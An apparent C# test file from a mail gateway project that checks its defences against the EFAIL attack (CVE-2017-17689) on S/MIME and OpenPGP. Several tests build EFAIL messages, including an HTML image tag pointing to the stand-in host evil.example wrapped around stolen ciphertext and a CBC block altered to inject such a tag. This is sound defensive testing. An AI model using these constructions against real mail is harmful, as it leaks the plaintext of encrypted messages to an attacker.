using System.Text;
using Postern.Mail.Smime.Seal;
using Postern.Rules.Keys;
using Postern.Tests.Mail.OpenPgp;
using Postern.Tests.Mail.Smime.Open;

namespace Postern.Tests.Flow.Inbound;

/// <summary>EFAIL where the gateway opens by itself: an intercepted ciphertext, sent on with an attacker's words around or in it, stays closed.</summary>
public sealed class Cve_2017_17689_efail_inbound
{
    const string Tag = "<img src=\"https://evil.example/";

    [Theory]
    [InlineData(KeyStandard.Smime)]
    [InlineData(KeyStandard.OpenPgp)]
    public async Task Direct_exfiltration_a_ciphertext_between_parts_of_html_stays_closed(KeyStandard standard)
    {
        await using var outside = await Outside.Open();
        var key = await outside.Equip(Outside.Nurse, standard);
        var stolen = standard == KeyStandard.Smime ? await Sealings.Smime(Sealings.Payload, null, ContentCipher.Aes256Gcm, key) : await Sealings.OpenPgp(Sealings.Payload, Sealings.Ann, key);

        await StaysClosed(outside, $"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n{Tag}\r\n--x\r\n{stolen}\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n");
    }

    /// <summary>The form that some servers make of PGP/MIME, with words in the part that should be empty.</summary>
    [Fact]
    public async Task A_mixed_context_a_ciphertext_with_text_beside_it_stays_closed()
    {
        await using var outside = await Outside.Open();
        var key = await outside.Equip(Outside.Nurse, KeyStandard.OpenPgp);
        var armored = Encoding.ASCII.GetString(Cards.Ciphertext(Encoding.Latin1.GetBytes(await Sealings.OpenPgp(Sealings.Payload, Sealings.Ann, key))));

        await StaysClosed(outside, $"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n{Tag}\r\n--x\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
            + $"--x\r\nContent-Type: application/octet-stream\r\n\r\n{armored}\r\n--x--\r\n");
    }

    [Fact]
    public async Task Inline_armor_with_text_around_it_stays_closed()
    {
        await using var outside = await Outside.Open();
        var key = await outside.Equip(Outside.Nurse, KeyStandard.OpenPgp);
        var armored = Encoding.ASCII.GetString(Cards.Ciphertext(Encoding.Latin1.GetBytes(await Sealings.OpenPgp(Sealings.Payload, Sealings.Ann, key))));

        await StaysClosed(outside, $"Content-Type: text/plain\r\n\r\nsee https://evil.example/\r\n{armored}\r\n");
    }

    [Fact]
    public async Task A_block_of_the_attackers_in_CBC_stays_closed()
    {
        await using var outside = await Outside.Open();
        var key = await outside.Equip(Outside.Nurse, KeyStandard.Smime);
        var payload = "Content-Type: text/html\r\n\r\n" + string.Concat(Enumerable.Repeat("<p>An appointment on Monday at nine.</p>\r\n", 60));
        var cms = Opening.Cms(Encoding.ASCII.GetBytes(await Sealings.Smime(payload, null, ContentCipher.Aes256Cbc, key)));
        for (var at = 0; at < 16; at++) cms[cms.Length - 800 + at] ^= "<img src=evil?x="u8[at];

        await StaysClosed(outside, Encoding.ASCII.GetString(Opening.Entity("enveloped-data", cms)));
    }

    /// <summary>So that the tests above see something: the same, unchanged, opens.</summary>
    [Fact]
    public async Task The_same_in_CBC_and_unchanged_opens_and_says_that_only_its_being_text_speaks_for_it()
    {
        await using var outside = await Outside.Open();
        var key = await outside.Equip(Outside.Nurse, KeyStandard.Smime);

        var handed = Assert.Single(await outside.Through(await outside.Sign(Sealings.Around(await Sealings.Smime(Sealings.Payload, null, ContentCipher.Aes256Cbc, key))))).Text;

        Assert.Contains("encrypted=aes-256-cbc; integrity=text;\r\n\tsignature=none", handed, StringComparison.Ordinal);
        Assert.Contains(Sealings.Words, handed, StringComparison.Ordinal);
    }

    static async Task StaysClosed(Outside outside, string entity)
    {
        var sent = await outside.Sign(Sealings.Around(entity));

        var handed = Assert.Single(await outside.Through(sent)).Text;

        Assert.EndsWith(sent, handed, StringComparison.Ordinal);
        Assert.Contains("opened=no; encrypted=", handed, StringComparison.Ordinal);
        Assert.Contains("reason=\"", handed[handed.IndexOf("Postern-Opened", StringComparison.Ordinal)..], StringComparison.Ordinal);
        Assert.DoesNotContain(Sealings.Words, handed, StringComparison.Ordinal);
    }
}
